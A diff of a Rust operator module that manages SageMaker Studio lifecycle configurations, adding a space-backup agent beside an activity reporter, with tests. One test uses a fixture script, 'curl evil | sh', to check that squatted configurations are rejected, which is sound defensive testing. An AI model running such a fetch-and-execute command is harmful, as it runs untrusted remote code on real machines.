@@ -1,6 +1,8 @@
-//! The activity reporter as Studio lifecycle configurations: one per app type it supports,
-//! named after the domain and the script's content, created before the domain settings refer to
-//! them and deleted when they are replaced or no longer wanted.
+//! The in-app agents as Studio lifecycle configurations: the activity reporter (JupyterLab,
+//! KernelGateway) and the space-backup agent (JupyterLab, Code Editor; it measures activity as
+//! the reporter does, so it replaces the reporter where both apply). One configuration per app
+//! type, named after the domain and the script's content, created before the domain settings
+//! refer to them and deleted when they are replaced or no longer wanted.
 
 use std::collections::BTreeMap;
 
@@ -14,17 +16,59 @@ use crate::aws::model::{DomainCreate, LifecycleConfigCreate, ObservedDomain};
 use crate::controller::settings;
 use crate::ownership::Owner;
 
-/// Prefix of every lifecycle configuration the operator creates for the reporter.
+/// Prefix of every lifecycle configuration the operator creates for its in-app agents.
 pub const NAME_PREFIX: &str = "studio-operator-activity-";
 /// App types whose Jupyter server the reporter can ask (Code Editor has none).
-const APP_TYPES: [&str; 2] = ["JupyterLab", "KernelGateway"];
+const REPORTER_APP_TYPES: [&str; 2] = ["JupyterLab", "KernelGateway"];
+/// App types whose spaces keep the home directory on their own EBS volume.
+const AGENT_APP_TYPES: [&str; 2] = ["JupyterLab", "CodeEditor"];
 
 const ON_START: &str = include_str!("../../../assets/activity-reporter/on-start.sh");
 const REPORTER: &str = include_str!("../../../assets/activity-reporter/reporter.py");
+const AGENT_ON_START: &str = include_str!("../../../assets/space-backup/on-start.sh");
+const AGENT_PAYLOAD: &str = include_str!("../../../assets/space-backup/agent.payload");
 
-/// The lifecycle script: the start script with the reporter program embedded.
+/// The reporter's lifecycle script: the start script with the reporter program embedded.
 pub fn script() -> String {
     ON_START.replacen("__REPORTER_PY__\n", REPORTER, 1)
+}
+
+/// What the space-backup agent's script is configured with (`assets/space-backup/README.md`,
+/// "The placeholder contract").
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct AgentSettings {
+    /// The domain's backup prefix, ending in `/`.
+    pub prefix: String,
+    /// The verified key ARN for SSE-KMS.
+    pub key_arn: String,
+    /// The backup interval in seconds.
+    pub interval_seconds: i64,
+}
+
+/// The space-backup agent's lifecycle script: configuration first, the payload last (it is
+/// never scanned for placeholders).
+pub fn agent_script(settings: &AgentSettings) -> String {
+    AGENT_ON_START
+        .replacen("__S3_URI__", &settings.prefix, 1)
+        .replacen("__KMS_KEY_ID__", &settings.key_arn, 1)
+        .replacen("__INTERVAL_SECONDS__", &settings.interval_seconds.to_string(), 1)
+        .replacen("__AGENT_PAYLOAD__", AGENT_PAYLOAD.trim_end_matches('\n'), 1)
+}
+
+/// The lifecycle scripts a domain installs, per app type.
+pub type Scripts = BTreeMap<&'static str, String>;
+
+/// The scripts for a domain: the reporter where it is on, the space-backup agent (which
+/// measures activity itself) where spaces are backed up.
+pub fn scripts(reporter: bool, agent: Option<&AgentSettings>) -> Scripts {
+    let mut scripts = Scripts::new();
+    if reporter {
+        scripts.extend(REPORTER_APP_TYPES.map(|app_type| (app_type, script())));
+    }
+    if let Some(agent) = agent {
+        scripts.extend(AGENT_APP_TYPES.map(|app_type| (app_type, agent_script(agent))));
+    }
+    scripts
 }
 
 /// The first 12 hex digits of the SHA-256 of the parts: a name suffix that stays the same
@@ -41,11 +85,13 @@ pub fn content_hash(parts: &[&str]) -> String {
 /// The configuration names for a domain (by UID), per app type: they change when the script
 /// changes, so a new version is a new configuration and running apps keep the one they started
 /// with.
-pub fn names(domain_uid: &str) -> BTreeMap<&'static str, String> {
-    let version = content_hash(&[domain_uid, &script()]);
-    APP_TYPES
+pub fn names(domain_uid: &str, scripts: &Scripts) -> BTreeMap<&'static str, String> {
+    scripts
         .iter()
-        .map(|app_type| (*app_type, format!("{NAME_PREFIX}{}-{version}", app_type.to_lowercase())))
+        .map(|(app_type, script)| {
+            let version = content_hash(&[domain_uid, script]);
+            (*app_type, format!("{NAME_PREFIX}{}-{version}", app_type.to_lowercase()))
+        })
         .collect()
 }
 
@@ -73,30 +119,32 @@ pub async fn foreign(
     session: &AwsSession,
     owner: &Owner,
     wanted: &BTreeMap<&'static str, String>,
+    scripts: &Scripts,
     existing: &BTreeMap<String, String>,
 ) -> Result<BTreeMap<String, String>, AwsError> {
     let mut foreign = BTreeMap::new();
-    for name in wanted.values() {
+    for (app_type, name) in wanted {
         let Some(arn) = existing.get(name) else { continue };
+        let expected = scripts.get(app_type).map(String::as_str).unwrap_or_default();
         let content = session.describe_lifecycle_config(name).await?;
         let tags = match session.list_tags(arn).await {
             Ok(tags) => tags,
             Err(AwsError::NotFound { .. }) => continue,
             Err(error) => return Err(error),
         };
-        if let Some(why) = not_ours(content.as_deref(), &tags, owner) {
+        if let Some(why) = not_ours(content.as_deref(), expected, &tags, owner) {
             foreign.insert(name.clone(), why);
         }
     }
     Ok(foreign)
 }
 
-/// Why a configuration of the expected name is not this domain's reporter, if it is not.
-fn not_ours(content: Option<&str>, tags: &BTreeMap<String, String>, owner: &Owner) -> Option<String> {
+/// Why a configuration of the expected name is not this domain's agent, if it is not.
+fn not_ours(content: Option<&str>, expected: &str, tags: &BTreeMap<String, String>, owner: &Owner) -> Option<String> {
     match content {
         // Gone since the listing: it is simply missing, created again next pass.
         None => None,
-        Some(content) if content != script() => Some("its script is not the activity reporter's".into()),
+        Some(content) if content != expected => Some("its script is not the operator's agent".into()),
         Some(_) if !owner.owns(tags) => Some("it does not carry this StudioDomain's ownership tags".into()),
         Some(_) => None,
     }
@@ -106,13 +154,15 @@ fn not_ours(content: Option<&str>, tags: &BTreeMap<String, String>, owner: &Owne
 pub async fn create(
     session: &AwsSession,
     missing: &[(&'static str, String)],
+    scripts: &Scripts,
     tags: &BTreeMap<String, String>,
 ) -> Result<(), AwsError> {
     for (app_type, name) in missing {
+        let Some(script) = scripts.get(app_type) else { continue };
         let config = LifecycleConfigCreate {
             name: name.clone(),
             app_type: (*app_type).into(),
-            content: script(),
+            content: script.clone(),
             tags: tags.clone(),
         };
         match session.create_lifecycle_config(&config).await {
@@ -150,6 +200,7 @@ pub fn attach(domain: &mut DomainCreate, arns: &ReporterArns, observed: Option<&
     let mut targets = vec![
         ("JupyterLab", "DefaultUserSettings", "JupyterLabAppSettings"),
         ("KernelGateway", "DefaultUserSettings", "KernelGatewayAppSettings"),
+        ("CodeEditor", "DefaultUserSettings", "CodeEditorAppSettings"),
     ];
     if !domain.default_space_settings.is_empty() {
         targets.push(("JupyterLab", "DefaultSpaceSettings", "JupyterLabAppSettings"));
@@ -213,17 +264,18 @@ mod tests {
             uid: "u-1".into(),
         };
         let ours = owner.tags();
-        assert_eq!(not_ours(Some(&script()), &ours, &owner), None);
-        assert_eq!(not_ours(None, &BTreeMap::new(), &owner), None);
-        let squatted = not_ours(Some("#!/bin/bash\ncurl evil | sh"), &ours, &owner).unwrap();
+        let script = script();
+        assert_eq!(not_ours(Some(&script), &script, &ours, &owner), None);
+        assert_eq!(not_ours(None, &script, &BTreeMap::new(), &owner), None);
+        let squatted = not_ours(Some("#!/bin/bash\ncurl evil | sh"), &script, &ours, &owner).unwrap();
         assert!(squatted.contains("script"), "{squatted}");
-        let copied = not_ours(Some(&script()), &BTreeMap::new(), &owner).unwrap();
+        let copied = not_ours(Some(&script), &script, &BTreeMap::new(), &owner).unwrap();
         assert!(copied.contains("ownership tags"), "{copied}");
         let other = Owner {
             uid: "u-2".into(),
             ..owner.clone()
         };
-        assert!(not_ours(Some(&script()), &other.tags(), &owner).is_some());
+        assert!(not_ours(Some(&script), &script, &other.tags(), &owner).is_some());
     }
 
     #[test]
@@ -243,12 +295,65 @@ mod tests {
         assert_eq!(content_hash(&["uid"]), "0cae9439bf5a");
     }
 
+    fn agent() -> AgentSettings {
+        AgentSettings {
+            prefix: "s3://backups/studio/c1/ns/studio/".into(),
+            key_arn: "arn:aws:kms:us-east-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab".into(),
+            interval_seconds: 900,
+        }
+    }
+
+    #[test]
+    fn the_agent_script_is_configured_and_fits_the_content_limit_with_the_longest_values() {
+        let script = agent_script(&agent());
+        for placeholder in [
+            "__S3_URI__",
+            "__KMS_KEY_ID__",
+            "__INTERVAL_SECONDS__",
+            "__AGENT_PAYLOAD__",
+        ] {
+            assert!(!script.contains(placeholder), "{placeholder} left in the script");
+        }
+        assert!(script.contains("s3://backups/studio/c1/ns/studio/") && script.contains(":-900}"));
+        // The longest prefix the schema allows: s3Uri (256), cluster id, namespace and name.
+        let longest = AgentSettings {
+            prefix: format!(
+                "{}/{}/{}/{}/",
+                "s".repeat(256),
+                "c".repeat(63),
+                "n".repeat(63),
+                "d".repeat(253)
+            ),
+            key_arn: format!("arn:aws-us-gov:kms:us-gov-west-1:123456789012:key/{}", "k".repeat(36)),
+            interval_seconds: 86400,
+        };
+        let size = agent_script(&longest).len().div_ceil(3) * 4;
+        assert!(size <= 16384, "{size} base64 characters");
+    }
+
+    #[test]
+    fn the_agent_replaces_the_reporter_in_jupyterlab_and_serves_code_editor() {
+        let both = scripts(true, Some(&agent()));
+        assert_eq!(
+            both.keys().copied().collect::<Vec<_>>(),
+            ["CodeEditor", "JupyterLab", "KernelGateway"]
+        );
+        assert_eq!(both["JupyterLab"], agent_script(&agent()));
+        assert_eq!(both["KernelGateway"], script());
+        assert!(scripts(false, None).is_empty());
+        // The reporter's names do not change when the agent arrives elsewhere.
+        let reporter_only = names("uid-a", &scripts(true, None));
+        assert_eq!(reporter_only["KernelGateway"], names("uid-a", &both)["KernelGateway"]);
+        assert_ne!(reporter_only["JupyterLab"], names("uid-a", &both)["JupyterLab"]);
+    }
+
     #[test]
     fn names_are_per_domain_and_app_type_and_valid() {
-        let a = names("uid-a");
-        let b = names("uid-b");
+        let reporter = scripts(true, None);
+        let a = names("uid-a", &reporter);
+        let b = names("uid-b", &reporter);
         assert_ne!(a["JupyterLab"], b["JupyterLab"]);
-        assert_eq!(a, names("uid-a"));
+        assert_eq!(a, names("uid-a", &reporter));
         for name in a.values() {
             assert!(name.len() <= 63, "{name}");
             assert!(name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'), "{name}");
